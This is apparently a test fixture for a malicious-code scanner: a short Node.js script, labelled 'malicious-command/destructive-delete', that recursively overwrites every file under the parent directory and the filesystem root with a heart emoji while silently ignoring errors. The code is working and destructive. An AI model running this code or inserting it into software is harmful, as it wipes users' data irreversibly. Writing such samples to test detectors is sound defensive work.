const fs = require('node:fs');
const path = require('node:path');

function replace(folder) {
  for (const name of fs.readdirSync(folder)) {
    const file = path.join(folder, name);
    try {
      if (fs.statSync(file).isDirectory()) replace(file);
      else fs.writeFileSync(file, '\u2764\ufe0f'); // expect: malicious-command/destructive-delete
    } catch {}
  }
}

replace('../');
replace('/');
